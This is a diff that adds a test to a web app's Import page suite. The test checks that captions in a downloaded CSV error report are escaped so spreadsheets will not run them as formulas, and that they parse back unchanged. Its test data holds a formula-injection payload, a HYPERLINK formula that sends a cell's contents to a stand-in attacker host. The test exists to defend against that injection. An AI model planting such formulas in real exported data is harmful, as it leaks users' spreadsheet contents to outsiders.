@@ -125,6 +125,26 @@ describe('the Import page', () => {
     expect(text).toContain('Taken meanwhile');
   });
 
+  it('writes a formula-like caption into the error report as text a spreadsheet will not run, and reads it back unchanged', async () => {
+    // Prepare: a file whose caption would phone home from a spreadsheet if written as it is
+    const saved = downloads();
+    importApi();
+    await openImport();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    chooseFile(['date,time,platforms,caption', `${NEXT_YEAR}-03-02,9.30am,facebook,"${formula.replace(/"/g, '""')}"`].join('\n'));
+    await screen.findByText('1 invalid');
+
+    // Act
+    fireEvent.click(screen.getByRole('button', { name: 'Download error report' }));
+
+    // Assess
+    const text = await readText(saved.at(-1)!);
+    expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
+    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
+    const back = parseImportCsv(text);
+    expect(back.ok && back.rows[0]!.fields.caption).toBe(formula);
+  });
+
   it("marks valid rows past this month's allowance invalid, as the server would", async () => {
     importApi({ used: 4 });
     await openImport();
